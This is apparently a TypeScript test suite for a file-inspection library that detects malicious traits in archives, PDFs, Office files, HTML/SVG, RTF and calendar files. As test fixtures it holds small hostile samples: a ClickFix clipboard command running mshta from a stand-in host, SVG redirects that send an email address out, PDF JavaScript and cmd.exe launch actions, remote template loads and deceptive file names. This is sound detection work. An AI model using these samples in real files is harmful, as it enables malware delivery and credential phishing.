import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { gzipSync } from 'fflate';

import { inspectFile, type FileFacts } from '../../src/analysis/formats/inspect.ts';
import { inspectHtml, longestBase64Run } from '../../src/analysis/formats/html.ts';
import { inspectIcs } from '../../src/analysis/formats/ics.ts';
import { listIso } from '../../src/analysis/formats/iso.ts';
import { DEFAULT_LIMITS, limitsUntil } from '../../src/analysis/formats/limits.ts';
import { nameFacts } from '../../src/analysis/formats/names.ts';
import { inspectOle } from '../../src/analysis/formats/ole.ts';
import { inspectOoxml } from '../../src/analysis/formats/ooxml.ts';
import { inspectPdf } from '../../src/analysis/formats/pdf.ts';
import { inspectRtf } from '../../src/analysis/formats/rtf.ts';
import { sniff } from '../../src/analysis/formats/sniff.ts';
import { listZip, readZipEntry } from '../../src/analysis/formats/zip.ts';
import {
  JPEG,
  PLAIN_HTML,
  PLAIN_RTF,
  SMUGGLING_HTML,
  biff,
  contentPdf,
  docx,
  ics,
  isoImage,
  latin1Bytes,
  ole,
  ole10Native,
  pdf,
  pdfWithObjectStream,
  textPdf,
  peStub,
  relationships,
  rtfWithObject,
  storedZip,
  utf8,
  zip,
} from './formats-builders.ts';

const facts = (bytes: Uint8Array, name: string, declaredType = 'application/octet-stream'): FileFacts =>
  inspectFile({ bytes, name, declaredType }, DEFAULT_LIMITS);

describe('sniff: the real type from the bytes', () => {
  const cases: [string, Uint8Array, string][] = [
    ['PE', peStub(), 'pe'],
    ['ELF', Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1), 'elf'],
    ['ZIP', zip({ 'a.txt': 'a' }), 'zip'],
    ['OLE', ole({ WordDocument: new Uint8Array(600) }), 'ole'],
    ['PDF after junk', latin1Bytes('\r\n%PDF-1.4\n'), 'pdf'],
    ['RTF', PLAIN_RTF, 'rtf'],
    ['JPEG', JPEG, 'jpeg'],
    ['HTML', utf8(PLAIN_HTML), 'html'],
    ['HTML in UTF-16', Uint8Array.from([0xff, 0xfe, ...Array.from('<html><body>x</body></html>').flatMap((c) => [c.charCodeAt(0), 0])]), 'html'],
    ['SVG after a prolog', utf8('<?xml version="1.0"?>\n<!-- drawn -->\n<svg xmlns="http://www.w3.org/2000/svg"></svg>'), 'svg'],
    ['iCalendar', utf8(ics('ana@example.org')), 'ics'],
    ['ISO 9660', isoImage(['README.TXT']), 'iso'],
    ['gzip', gzipSync(utf8('hello')), 'gzip'],
    ['a shebang script', utf8('#!/bin/sh\necho hi\n'), 'shebang'],
    ['LNK', Uint8Array.of(0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46), 'lnk'],
    ['plain text', utf8('Minutes of the meeting: budget approved.'), 'unknown'],
  ];
  for (const [label, bytes, kind] of cases) it(label, () => assert.equal(sniff(bytes), kind));

  it('needs the PE signature where MZ points, so text starting "MZ" is not a program', () => {
    const text = utf8(`MZ notes${' '.repeat(120)}`);
    assert.notEqual(sniff(text), 'pe');
  });
});

describe('names', () => {
  it('finds a document extension before a program one', () => {
    assert.equal(nameFacts('invoice.pdf.exe').deceptive, true);
    assert.equal(nameFacts('scan.jpg.html').deceptive, true);
  });
  it('finds bidi overrides, invisible characters and padding', () => {
    assert.equal(nameFacts('invoice\u202Efdp.exe').deceptive, true);
    assert.equal(nameFacts('report\u200B.pdf').deceptive, true);
    assert.equal(nameFacts('invoice.pdf                    .exe').deceptive, true);
  });
  it('accepts ordinary names, dotted names and compressed documents', () => {
    for (const name of ['invoice.pdf', 'v1.2.3 release notes.pdf', 'report.pdf.zip', 'setup.exe', 'Scan 2024-03-05.jpg', 'فاتورة.pdf']) {
      assert.equal(nameFacts(name).deceptive, false, name);
    }
  });
  it('classes extensions case-insensitively', () => {
    assert.equal(nameFacts('RUN.VBS').extensionClass, 'script');
    assert.equal(nameFacts('photo.JPG').extensionClass, 'image');
    assert.equal(nameFacts('noextension').extensionClass, 'unknown');
  });
});

describe('zip', () => {
  it('lists names, sizes and methods from the central directory', () => {
    const listing = listZip(zip({ 'a.txt': 'hello hello hello', 'dir/b.bin': new Uint8Array(10) }), DEFAULT_LIMITS)!;
    assert.deepEqual(
      listing.entries.map((entry) => [entry.name, entry.size, entry.encrypted]),
      [
        ['a.txt', 17, false],
        ['dir/b.bin', 10, false],
      ],
    );
    assert.equal(listing.truncated, false);
    assert.equal(listing.bomb, false);
  });
  it('reads the encryption flag', () => {
    const listing = listZip(storedZip([{ name: 'invoice.pdf', data: utf8('x'), encrypted: true }]), DEFAULT_LIMITS)!;
    assert.equal(listing.entries[0]!.encrypted, true);
    assert.equal(readZipEntry(storedZip([{ name: 'a', data: utf8('x'), encrypted: true }]), listing.entries[0]!, 10), undefined);
  });
  it('inflates only as much as asked', () => {
    const bytes = zip({ 'big.txt': 'a'.repeat(100_000) });
    const entry = listZip(bytes, DEFAULT_LIMITS)!.entries[0]!;
    const head = readZipEntry(bytes, entry, 1000)!;
    assert.equal(head.bytes.length, 1000);
    assert.equal(head.complete, false);
    assert.equal(readZipEntry(bytes, entry, 200_000)!.bytes.length, 100_000);
  });
  it('refuses a bomb by its declared ratio', () => {
    const listing = listZip(storedZip([{ name: 'zeros.bin', data: new Uint8Array(100), declaredSize: 4_000_000_000 }]), DEFAULT_LIMITS)!;
    assert.equal(listing.bomb, true);
  });
  it('stops listing at the entry limit', () => {
    const files: Record<string, string> = {};
    for (let index = 0; index < 30; index++) files[`f${index}.txt`] = 'x';
    const listing = listZip(zip(files), { ...DEFAULT_LIMITS, maxEntries: 10 })!;
    assert.equal(listing.entries.length, 10);
    assert.equal(listing.truncated, true);
  });
  it('walks local headers when the central directory is missing', () => {
    const whole = storedZip([{ name: 'a.txt', data: utf8('abc') }]);
    const cut = whole.subarray(0, 30 + 5 + 3);
    const listing = listZip(cut, DEFAULT_LIMITS)!;
    assert.deepEqual(
      listing.entries.map((entry) => entry.name),
      ['a.txt'],
    );
  });
  it('is not fooled by non-ZIP bytes', () => {
    assert.equal(listZip(utf8('just some text'), DEFAULT_LIMITS), undefined);
  });
});

describe('pdf', () => {
  it('finds OpenAction JavaScript and the URIs of link annotations', () => {
    const findings = inspectPdf(
      pdf([
        '<< /Type /Catalog /Pages 3 0 R /OpenAction 2 0 R >>',
        '<< /S /JavaScript /JS (app.launchURL\\("https://x.invalid/p"\\);) >>',
        '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
        '<< /Type /Page /Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.com/pay?id=1) >> >>] >>',
      ]),
      DEFAULT_LIMITS,
    );
    assert.equal(findings.javascript, true);
    assert.equal(findings.openAction, true);
    assert.deepEqual(findings.uris, ['https://example.com/pay?id=1']);
  });
  it('treats an OpenAction that only shows a page as passive', () => {
    const findings = inspectPdf(
      pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page >>']),
      DEFAULT_LIMITS,
    );
    assert.equal(findings.openAction, false);
    assert.equal(findings.javascript, false);
  });
  it('decodes hex-escaped names and hex and UTF-16 strings', () => {
    const findings = inspectPdf(
      pdf([
        '<< /Type /Catalog /Names << /J#61vaScript 2 0 R >> >>',
        '<< /A << /S /URI /URI <68747470733A2F2F6578616D706C652E6F72672F> >> >>',
        '<< /A << /S /URI /URI (\xfe\xff\x00h\x00t\x00t\x00p\x00:\x00/\x00/\x00a\x00.\x00b) >> >>',
      ]),
      DEFAULT_LIMITS,
    );
    assert.equal(findings.javascript, true);
    assert.deepEqual(findings.uris, ['https://example.org/', 'http://a.b']);
  });
  it('reads actions and links hidden in a compressed object stream', () => {
    const findings = inspectPdf(
      pdfWithObjectStream(['<< /S /Launch /F (cmd.exe) >>', '<< /A << /S /URI /URI (https://hidden.example/) >> >>']),
      DEFAULT_LIMITS,
    );
    assert.equal(findings.launch, true);
    assert.deepEqual(findings.uris, ['https://hidden.example/']);
  });
  it('names embedded files and notices encryption', () => {
    const findings = inspectPdf(
      pdf(
        [
          '<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(factur-x.xml) 2 0 R] >> >> >>',
          '<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF << /F 3 0 R >> >>',
          '<< /Type /EmbeddedFile /Length 0 >>',
        ],
        '<< /Root 1 0 R /Encrypt 9 0 R >>',
      ),
      DEFAULT_LIMITS,
    );
    assert.deepEqual(findings.embeddedFiles, ['factur-x.xml']);
    assert.equal(findings.encrypted, true);
  });
  it('marks the result truncated past the byte limit', () => {
    const findings = inspectPdf(pdf(['<< /Type /Catalog >>', `<< /Filler (${'x'.repeat(5000)}) >>`]), { ...DEFAULT_LIMITS, maxBytes: 1000 });
    assert.equal(findings.truncated, true);
  });
});

describe('pdf: the text its pages show', () => {
  it('reads the lines of an uncompressed page, escapes undone', () => {
    // textPdf escapes ( ) and \ itself.
    assert.equal(inspectPdf(textPdf(['Fine (EUR 450) due', 'path C:\\temp']), DEFAULT_LIMITS).text, 'Fine (EUR 450) due\npath C:\\temp\n');
    // Octal codes are WinAnsi: é, and ’ from the 0x80-0x9f punctuation.
    assert.equal(inspectPdf(contentPdf('BT (caf\\351 l\\222avis \\(1\\)) Tj ET'), DEFAULT_LIMITS).text, 'café l’avis (1)\n');
  });
  it('reads a deflated page: TJ arrays with kerning, hex strings, moves along and down', () => {
    const content = 'BT /F1 12 Tf 72 700 Td [(Ar)-12(rest)-350(war)8(rant)] TJ 0 -14 Td <43616C6C> Tj 60 0 Td (now) Tj ET';
    assert.equal(inspectPdf(contentPdf(content, { deflate: true }), DEFAULT_LIMITS).text, 'Arrest warrant\nCall now\n');
  });
  it('ignores what is not a text operator: marked content, names, inline images, drawing', () => {
    const content = '/Span << /MCID 0 >> BDC BT (Shown) Tj ET EMC q BI /W 2 /H 1 ID (x) Tj EI Q 10 10 m 20 20 l S BT (Also) Tj ET';
    assert.equal(inspectPdf(contentPdf(content), DEFAULT_LIMITS).text, 'Shown\nAlso\n');
  });
  it('gives nothing for two-byte glyph codes, images, fonts and encrypted files', () => {
    assert.equal(inspectPdf(contentPdf('BT <0024004F0048> Tj ET'), DEFAULT_LIMITS).text, '');
    assert.equal(inspectPdf(contentPdf('BT (pixels) Tj ET', { dictionary: ' /Subtype /Image' }), DEFAULT_LIMITS).text, '');
    assert.equal(inspectPdf(contentPdf('BT (glyphs) Tj ET', { dictionary: ' /Length1 40' }), DEFAULT_LIMITS).text, '');
    assert.equal(inspectPdf(contentPdf('BT (glyphs) Tj ET', { dictionary: ' /Filter /DCTDecode' }), DEFAULT_LIMITS).text, '');
    const encrypted = latin1Bytes(
      new TextDecoder('latin1').decode(contentPdf('BT (secret) Tj ET')).replace('<< /Root 1 0 R >>', '<< /Root 1 0 R /Encrypt 9 0 R >>'),
    );
    assert.equal(inspectPdf(encrypted, DEFAULT_LIMITS).text, '');
  });
  it('reads a form XObject like a page, and object streams still for actions', () => {
    const form = contentPdf('BT (Page) Tj ET', { extra: ['<< /Type /XObject /Subtype /Form /Length 17 >>\nstream\nBT (Form) Tj ET\nendstream'] });
    assert.equal(inspectPdf(form, DEFAULT_LIMITS).text, 'Page\nForm\n');
    assert.equal(inspectPdf(pdfWithObjectStream(['<< /S /Launch /F (cmd.exe) >>']), DEFAULT_LIMITS).text, '');
  });
  it('keeps the beginning and the end past the text limit, says so, and reads no page when asked for none', () => {
    assert.equal(inspectPdf(contentPdf('BT (text) Tj ET'), { ...DEFAULT_LIMITS, maxTextChars: 0 }).text, '');
    const { text, textCut } = inspectPdf(contentPdf(`BT ${'(0123456789) Tj '.repeat(50)}(end) Tj ET`, { deflate: true }), {
      ...DEFAULT_LIMITS,
      maxTextChars: 25,
    });
    assert.equal(text, `${'0123456789'.repeat(3).slice(0, 25)}\n${`${'0123456789'.repeat(3)}end\n`.slice(-25)}`);
    assert.equal(textCut, true);
    assert.equal(inspectPdf(contentPdf('BT (0123456789) Tj ET'), { ...DEFAULT_LIMITS, maxTextChars: 25 }).textCut, false);
  });
  it('stops reading pages past the stream limit without calling the file uninspected', () => {
    const pages = Array.from({ length: 5 }, (_, index) => `<< /Length 15 >>\nstream\nBT (p${index}) Tj ET\nendstream`);
    const findings = inspectPdf(contentPdf('BT (p) Tj ET', { extra: pages }), { ...DEFAULT_LIMITS, maxEntries: 3 });
    assert.equal(findings.text, 'p\np0\np1\n');
    assert.equal(findings.truncated, false);
  });
  it('hands the text to the file facts', () => {
    assert.equal(facts(textPdf(['Call +1 800 555 0199']), 'notice.pdf').text, 'Call +1 800 555 0199\n');
    assert.equal(facts(zip({ 'notice.pdf': textPdf(['Call +1 800 555 0199']) }), 'notice.zip').text, '');
  });
});

describe('ooxml', () => {
  it('reads the text of a Word body: runs, paragraphs, tabs, entities', () => {
    const body =
      '<w:body><w:p><w:r><w:t>Pay &amp; </w:t></w:r><w:r><w:t xml:space="preserve">confirm</w:t></w:r></w:p><w:p><w:r><w:t>Ref</w:t><w:tab/><w:t>&#8364;90</w:t></w:r></w:p></w:body>';
    const document = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${body}</w:document>`;
    assert.equal(inspectOoxml(docx({ 'word/document.xml': document }), DEFAULT_LIMITS)!.text, 'Pay & confirm\nRef €90\n');
    assert.equal(facts(docx(), 'report.docx').text, 'Quarterly figures\n');
    assert.equal(inspectOoxml(docx(), { ...DEFAULT_LIMITS, maxTextChars: 0 })!.text, '');
  });

  it('finds a VBA project and a remote template, and exports hyperlinks', () => {
    const findings = inspectOoxml(
      docx({
        'word/vbaProject.bin': ole({ 'VBA/dir': new Uint8Array(8) }),
        'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'https://templates.invalid/t.dotm', external: true }]),
        'word/_rels/document.xml.rels': relationships([{ type: 'hyperlink', target: 'https://example.com/a?x=1&amp;y=2', external: true }]),
      }),
      DEFAULT_LIMITS,
    )!;
    assert.equal(findings.application, 'word');
    assert.equal(findings.macros, true);
    assert.deepEqual(
      findings.remoteLoads.map((link) => [link.type, link.target]),
      [['attachedTemplate', 'https://templates.invalid/t.dotm']],
    );
    assert.deepEqual(findings.hyperlinks, ['https://example.com/a?x=1&y=2']);
  });
  it('leaves a local template and ordinary hyperlinks alone', () => {
    const findings = inspectOoxml(
      docx({
        'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'file:///C:\\Users\\ana\\Templates\\Normal.dotm', external: true }]),
        'word/_rels/document.xml.rels': relationships([{ type: 'hyperlink', target: 'https://example.com/', external: true }]),
      }),
      DEFAULT_LIMITS,
    )!;
    assert.equal(findings.macros, false);
    assert.deepEqual(findings.remoteLoads, []);
    assert.equal(findings.external.length, 2);
  });
  it('counts UNC and file-share templates as remote', () => {
    const findings = inspectOoxml(
      docx({
        'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: '\\\\203.0.113.9\\share\\t.dotm', external: true }]),
      }),
      DEFAULT_LIMITS,
    )!;
    assert.equal(findings.remoteLoads.length, 1);
  });
  it('reads a relationship whose quoted values hold `>`, comments and entities, as an XML reader does', () => {
    const REL_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const rels =
      '<?xml version="1.0"?><!-- <Relationship Target="https://decoy.invalid/x" TargetMode="External"/> -->' +
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="rId1" Descr='a > b' Type="${REL_TYPE}/attachedTemplate"\n  Target="https://templates.invalid/t.dotm?a=1&amp;b=&#x32;" TargetMode="External"/>` +
      `<pr:Relationship xmlns:pr="x" Id="rId2" Type="${REL_TYPE}/oleObject" Target='\\\\203.0.113.9\\s\\o.bin' TargetMode='External'></pr:Relationship>` +
      '</Relationships>';
    const findings = inspectOoxml(docx({ 'word/_rels/settings.xml.rels': rels }), DEFAULT_LIMITS)!;
    assert.deepEqual(
      findings.remoteLoads.map((link) => [link.type, link.target]),
      [
        ['attachedTemplate', 'https://templates.invalid/t.dotm?a=1&b=2'],
        ['oleObject', '\\\\203.0.113.9\\s\\o.bin'],
      ],
    );
  });
  it('answers undefined for a ZIP that is not a package', () => {
    assert.equal(inspectOoxml(zip({ 'a.txt': 'x' }), DEFAULT_LIMITS), undefined);
  });
});

describe('ole', () => {
  it('finds VBA storages', () => {
    assert.equal(inspectOle(ole({ 'Macros/VBA/dir': new Uint8Array(8), WordDocument: new Uint8Array(600) }), DEFAULT_LIMITS).vba, true);
    assert.equal(inspectOle(ole({ WordDocument: new Uint8Array(600) }), DEFAULT_LIMITS).vba, false);
  });
  it('finds Excel 4.0 macro sheets and workbook encryption', () => {
    const sheet = (type: number): readonly [number, number[]] => [0x0085, [0, 0, 0, 0, 0, type, 1, 0, 0x41]];
    assert.equal(inspectOle(ole({ Workbook: biff([sheet(0), sheet(1)]) }), DEFAULT_LIMITS).xlm, true);
    assert.equal(inspectOle(ole({ Workbook: biff([sheet(0)]) }), DEFAULT_LIMITS).xlm, false);
    assert.equal(inspectOle(ole({ Workbook: biff([[0x002f, [0, 0]], sheet(0)]) }), DEFAULT_LIMITS).encrypted, true);
  });
  it('finds encrypted OOXML packages and Word encryption', () => {
    assert.equal(inspectOle(ole({ EncryptionInfo: new Uint8Array(8), EncryptedPackage: new Uint8Array(600) }), DEFAULT_LIMITS).encrypted, true);
    const word = new Uint8Array(600);
    word[0x0b] = 0x01;
    assert.equal(inspectOle(ole({ WordDocument: word }), DEFAULT_LIMITS).encrypted, true);
  });
  it('recognises installers and packaged files', () => {
    assert.equal(inspectOle(ole({ x: new Uint8Array(600) }, '84100c0000000000c000000000000046'), DEFAULT_LIMITS).installer, true);
    assert.deepEqual(inspectOle(ole({ 'ObjectPool/_1/\u0001Ole10Native': ole10Native('invoice.exe') }), DEFAULT_LIMITS).packagedFiles, ['invoice.exe']);
  });
  it('reports damaged files as truncated instead of throwing', () => {
    const damaged = ole({ WordDocument: new Uint8Array(600) }).subarray(0, 700);
    damaged.fill(0xff, 520);
    assert.equal(inspectOle(damaged, DEFAULT_LIMITS).truncated, true);
  });
});

describe('html', () => {
  it('recognises a smuggling loader', () => {
    const findings = inspectHtml(utf8(SMUGGLING_HTML), DEFAULT_LIMITS);
    assert.equal(findings.script, true);
    assert.ok(findings.smuggling.includes('blob_url'));
    assert.ok(findings.smuggling.includes('decoded_payload'));
  });
  it('recognises document.write of decoded markup and data: application URIs', () => {
    assert.deepEqual(inspectHtml(utf8('<script>document.write(unescape("%3C%68%74%6D%6C%3E"))</script>'), DEFAULT_LIMITS).smuggling, ['write_decoded']);
    assert.deepEqual(inspectHtml(utf8('<a href="data:application/octet-stream;base64,TVqQ" download="a.exe">x</a>'), DEFAULT_LIMITS).smuggling, [
      'data_application',
    ]);
  });
  it('recognises a script sending the browser to an address it decodes (the SVG voicemail)', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[var e="amy@example.org";window.location.href=atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvP2U9")+e;]]></script></svg>';
    assert.deepEqual(inspectHtml(utf8(svg), DEFAULT_LIMITS).smuggling, ['decoded_redirect']);
    assert.deepEqual(inspectHtml(utf8('<script>location.replace(String.fromCharCode(104,116,116,112))</script>'), DEFAULT_LIMITS).smuggling, [
      'decoded_redirect',
    ]);
    // A saved page that reads its own query string, or redirects in plain sight, hides nothing.
    assert.deepEqual(
      inspectHtml(utf8('<script>var q = decodeURIComponent(location.search); if (q) location.href = "/search?q=" + q;</script>'), DEFAULT_LIMITS).smuggling,
      [],
    );
    assert.deepEqual(inspectHtml(utf8('<script>if (location.hash === "") location.href = "https://example.org/";</script>'), DEFAULT_LIMITS).smuggling, []);
  });
  it('recognises a picture whose script navigates, in plain sight too', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg"><text>Loading…</text><script><![CDATA[window.location.href = "https://collect.example/?r=" + "YW15";]]></script></svg>';
    assert.deepEqual(inspectHtml(utf8(svg), DEFAULT_LIMITS).smuggling, ['picture_redirect']);
    // An animated picture's script, and a page that embeds an SVG and redirects, are not pictures sending the reader on.
    assert.deepEqual(
      inspectHtml(
        utf8(
          '<svg xmlns="http://www.w3.org/2000/svg"><circle id="c" r="4"/><script>setInterval(function(){c.setAttribute("r", 4 + Math.random())}, 100)</script></svg>',
        ),
        DEFAULT_LIMITS,
      ).smuggling,
      [],
    );
    assert.deepEqual(
      inspectHtml(
        utf8('<html><body><svg width="10"><rect/></svg><script>if (!window.ok) location.href = "/fallback.html";</script></body></html>'),
        DEFAULT_LIMITS,
      ).smuggling,
      [],
    );
  });
  it('recognises a script that copies a command for the reader to run (ClickFix)', () => {
    const captcha =
      '<input type="checkbox" id="c"><ol><li>Press Windows + R</li><li>Press Ctrl + V</li></ol><script>c.onclick=function(){navigator.clipboard.writeText("mshta https://x.example/v.hta");};</script>';
    assert.deepEqual(inspectHtml(utf8(captcha), DEFAULT_LIMITS).smuggling, ['clipboard_command']);
    assert.deepEqual(inspectHtml(utf8('<script>document.execCommand("copy")</script><p>Press Win+R, paste and press Enter</p>'), DEFAULT_LIMITS).smuggling, [
      'clipboard_command',
    ]);
    // A voucher or licence key copied with a button runs nothing.
    assert.deepEqual(
      inspectHtml(utf8('<button onclick="navigator.clipboard.writeText(\'SPRING-25-XQ7\')">Copy code</button><p>Paste it at checkout.</p>'), DEFAULT_LIMITS)
        .smuggling,
      [],
    );
  });
  it('stays quiet on a plain page, inline images and fonts', () => {
    const page = `<html><style>@font-face{src:url(data:application/font-woff;base64,${'A'.repeat(9000)})}</style><body><img src="data:image/png;base64,${'B'.repeat(9000)}"><script>var x = atob("aGk=");</script></body></html>`;
    assert.deepEqual(inspectHtml(utf8(page), DEFAULT_LIMITS).smuggling, []);
    assert.deepEqual(inspectHtml(utf8(PLAIN_HTML), DEFAULT_LIMITS).smuggling, []);
  });
  it('finds password forms', () => {
    assert.equal(inspectHtml(utf8('<form action="https://x.invalid/"><input type="password" name="p"></form>'), DEFAULT_LIMITS).passwordForm, true);
  });
  it('measures base64 runs in one pass', () => {
    assert.equal(longestBase64Run(`x ${'QUJD'.repeat(100)} y`), 400);
    assert.ok(longestBase64Run(`src="data:image/png;base64,${'QUJD'.repeat(100)}"`) < 20);
  });
});

describe('rtf', () => {
  it('finds Equation Editor objects and packaged files', () => {
    const findings = inspectRtf(rtfWithObject('02ce020000000000c000000000000046'), DEFAULT_LIMITS);
    assert.equal(findings.objectData, true);
    assert.equal(findings.equationEditor, true);
    assert.equal(inspectRtf(rtfWithObject('5061636b61676500aabbcc'), DEFAULT_LIMITS).packagedFile, true);
  });
  it('finds auto-updating linked objects with a URL', () => {
    const findings = inspectRtf(rtfWithObject(Buffer.from('http://x.invalid/a.hta').toString('hex'), '\\objautlink\\objupdate'), DEFAULT_LIMITS);
    assert.equal(findings.autoUpdate, true);
    assert.equal(findings.remoteLink, true);
  });
  it('reads object data past inner groups: an ignorable destination is skipped, not the end of the data', () => {
    const equation = '02ce020000000000c000000000000046';
    // The marker comes after an empty `{\*\x}` group and one holding odd decoy digits.
    const split = rtfWithObject(`0000{\\*\\x}${equation.slice(0, 7)}{\\*\\junk abc{\\*\\deeper 1}}${equation.slice(7)}`);
    assert.equal(inspectRtf(split, DEFAULT_LIMITS).equationEditor, true);
    const url = Buffer.from('http://x.invalid/a.hta').toString('hex');
    assert.equal(inspectRtf(rtfWithObject(`{\\*\\x}{00}${url}`), DEFAULT_LIMITS).remoteLink, true);
    // The object's own group still ends the data: text after it is not read as hex.
    const after = latin1Bytes(`{\\rtf1{\\object{\\*\\objdata 0105000002000000}}\\par ${equation}}`);
    assert.equal(inspectRtf(after, DEFAULT_LIMITS).equationEditor, false);
  });
  it('stays quiet on plain RTF', () => {
    const findings = inspectRtf(PLAIN_RTF, DEFAULT_LIMITS);
    assert.equal(findings.objects || findings.objectData || findings.equationEditor, false);
  });
});

describe('ics, iso and gzip', () => {
  it('reads method, organiser and web addresses of an invitation', () => {
    const findings = inspectIcs(utf8(ics('Ana@Example.org', 'DESCRIPTION:Join at https://meet.example.com/abc\r\n -def')), DEFAULT_LIMITS);
    assert.deepEqual([findings.event, findings.method, findings.organizer], [true, 'REQUEST', 'ana@example.org']);
    assert.deepEqual(findings.urls, ['https://meet.example.com/abc-def']);
  });
  it("reads the event's title, description and location as text, unescaped, leaving alarms out", () => {
    const extra = ['DESCRIPTION:Bring the figures\\, please\\; see\\nthe sheet', 'LOCATION:Room 4', 'BEGIN:VALARM', 'DESCRIPTION:Reminder', 'END:VALARM'].join(
      '\r\n',
    );
    assert.equal(inspectIcs(utf8(ics('ana@example.org', extra)), DEFAULT_LIMITS).text, 'Budget review\nBring the figures, please; see\nthe sheet\nRoom 4');
    assert.equal(facts(utf8(ics('ana@example.org', 'LOCATION:Room 4')), 'invite.ics').text, 'Budget review\nRoom 4');
  });
  it('lists the root of an ISO image', () => {
    assert.deepEqual(listIso(isoImage(['INVOICE.LNK', 'README.TXT']), DEFAULT_LIMITS)?.names, ['INVOICE.LNK', 'README.TXT']);
    assert.equal(listIso(utf8('not an image'), DEFAULT_LIMITS), undefined);
  });
  it('sees the program inside a gzip by its stored name and its bytes', () => {
    assert.equal(facts(gzipSync(peStub(), { filename: 'invoice.exe' }), 'invoice.gz').containsExecutable, true);
    assert.equal(facts(gzipSync(utf8('<feedback></feedback>'), { filename: 'report.xml' }), 'report.xml.gz').containsExecutable, false);
  });
});

describe('inspectFile', () => {
  it('follows archives inside archives, and sees programs there by name and by bytes', () => {
    const inner = zip({ 'readme.txt': 'hi', 'photo.jpg': peStub() });
    const outer = facts(zip({ 'docs.zip': inner }), 'docs.zip');
    assert.equal(outer.nestedContainer, true);
    assert.equal(outer.containsExecutable, true);
    assert.equal(outer.typeMismatch, true);
  });
  it('stops at the depth limit and says so', () => {
    let bytes = zip({ 'a.txt': 'x' });
    for (let level = 0; level < 5; level++) bytes = zip({ [`level${level}.zip`]: bytes });
    assert.equal(facts(bytes, 'deep.zip').uninspected, true);
  });
  it('stops at the deadline and says so', () => {
    const result = inspectFile({ bytes: zip({ 'a.txt': 'x' }), name: 'a.zip', declaredType: '' }, limitsUntil(Date.now() - 1));
    assert.equal(result.uninspected, true);
  });
  it('says nothing about a zip of photos', () => {
    const result = facts(zip({ 'IMG_0001.jpg': JPEG, 'IMG_0002.jpg': JPEG }), 'holiday.zip', 'application/zip');
    assert.deepEqual(
      [result.executable, result.containsExecutable, result.nestedContainer, result.typeMismatch, result.encrypted, result.uninspected],
      [false, false, false, false, false, false],
    );
  });
  it('judges internet shortcuts by where they lead', () => {
    assert.equal(facts(utf8('[InternetShortcut]\r\nURL=file://203.0.113.9/share/invoice.js\r\n'), 'invoice.url').executable, true);
    assert.equal(facts(utf8('[InternetShortcut]\r\nURL=https://www.example.org/news\r\n'), 'news.url').executable, false);
  });
  it('finds a program packaged inside a document', () => {
    const embedded = ole({ '\u0001Ole10Native': ole10Native('run.js') });
    assert.equal(facts(docx({ 'word/embeddings/oleObject1.bin': embedded }), 'report.docx').containsExecutable, true);
  });
  it('leaves harmless declared-type disagreements alone', () => {
    assert.equal(facts(pdf(['<< /Type /Catalog >>']), 'invoice.pdf', 'application/octet-stream').typeMismatch, false);
    assert.equal(facts(docx(), 'report.docx', 'application/zip').typeMismatch, false);
    assert.equal(facts(utf8(PLAIN_HTML), 'export.xls', 'application/vnd.ms-excel').typeMismatch, false);
  });
});
